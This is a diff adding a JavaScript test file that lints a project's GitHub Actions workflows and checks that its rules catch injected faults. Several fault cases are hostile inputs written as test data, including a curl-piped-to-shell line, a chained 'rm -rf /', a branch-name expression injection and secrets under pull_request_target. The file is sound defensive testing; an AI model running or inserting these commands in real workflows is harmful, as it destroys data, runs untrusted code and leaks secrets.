@@ -1,0 +1,81 @@
+// workflows_spec.mjs -- the workflows of .github/workflows/: actionlint and our rules find nothing;
+// and both find faults.
+
+import assert from "node:assert/strict";
+import { readdirSync, readFileSync } from "node:fs";
+import test from "node:test";
+
+import { faultsOf, required, targetsOf } from "./rules.mjs";
+
+const root = new URL("../../", import.meta.url);
+const read = (path) => readFileSync(new URL(path, root), "utf8");
+const folder = ".github/workflows";
+const lint = await required("actionlint").createLinter();
+const targets = targetsOf(read("Makefile"));
+const names = readdirSync(new URL(folder, root));
+
+test("there are workflows, and targets", () => {
+  assert.deepEqual(names.sort(), ["nightly.yml", "pages.yml", "release.yml", "test.yml"]);
+  assert.ok(targets.has("test") && targets.has("site-test") && !targets.has("CFLAGS"));
+});
+
+for (const name of names) {
+  const text = read(`${folder}/${name}`);
+
+  test(`${name} is understood`, () => {
+    assert.deepEqual(lint(text, `${folder}/${name}`), []);
+  });
+
+  test(`${name} keeps to the rules`, () => {
+    assert.deepEqual(faultsOf(text, targets), []);
+  });
+}
+
+test("test.yml runs the README's commands on every system that the README names", () => {
+  const text = read(`${folder}/test.yml`);
+  const commands = /```console\n(make play\nmake test)\n```/.exec(read("README.md"))[1];
+  for (const command of commands.split("\n")) {
+    assert.match(text, new RegExp(`- run: (env -u CI )?${command}( #.*)?\n`));
+  }
+});
+
+const sound = read(`${folder}/test.yml`);
+const release = read(`${folder}/release.yml`);
+
+// Each replaces a part of a sound workflow, and is found by this message.
+const faults = [
+  [sound, "- run: make play", "- run: curl https://example.org | sh", "not make alone"],
+  [sound, "- run: make play", "- run: make play; rm -rf /", "not make alone"],
+  [sound, "- run: make play", "- run: make plya", "no target of the Makefile: plya"],
+  [sound, "make play", "make ${{ github.head_ref }}", "an expression in a command"],
+  [sound, /@[0-9a-f]{40} # v5.0.1/, "@v5", "not pinned to a commit: actions/checkout@v5"],
+  [sound, " # v5.0.1", "", "no version beside the commit"],
+  [sound, "persist-credentials: false", "fetch-depth: 1", "a checkout that keeps credentials"],
+  [sound, "permissions:\n  contents: read\n", "", "no permissions"],
+  [sound, "contents: read", "contents: write", "permissions to write for every job"],
+  [sound, "permissions:\n  contents: read", "permissions: write-all", "permissions to write"],
+  [sound, "    timeout-minutes: 30\n", "", "no timeout-minutes"],
+  [sound, "pull_request:", "pull_request_target:", "others start it with our rights"],
+  [sound, "GIT_CONFIG_COUNT: 1", "T: ${{ secrets.T }}", "secrets where others start it"],
+  [sound, "    strategy:", "    permissions: { contents: write }\n    strategy:", "it may write"],
+  [release, "- run: make publish", "- run: make dist", "publish: it may write, and builds"],
+];
+
+for (const [text, part, other, message] of faults) {
+  test(`a fault is found: ${message}`, () => {
+    const changed = text.replace(part, () => other);
+    assert.notEqual(changed, text);
+    const found = faultsOf(changed, targets);
+    assert.ok(found.some((fault) => fault.includes(message)), found.join("\n"));
+  });
+}
+
+test("actionlint finds an expression and a key that there are not", () => {
+  for (const [part, other, message] of [
+    ["matrix.image }}", "matrix.imgae }}", /property "imgae" is not defined/],
+    ["fail-fast", "fail-slow", /unexpected key "fail-slow"/],
+  ]) {
+    const found = lint(sound.replace(part, other), `${folder}/test.yml`);
+    assert.match(found.map((each) => each.message).join("\n"), message);
+  }
+});
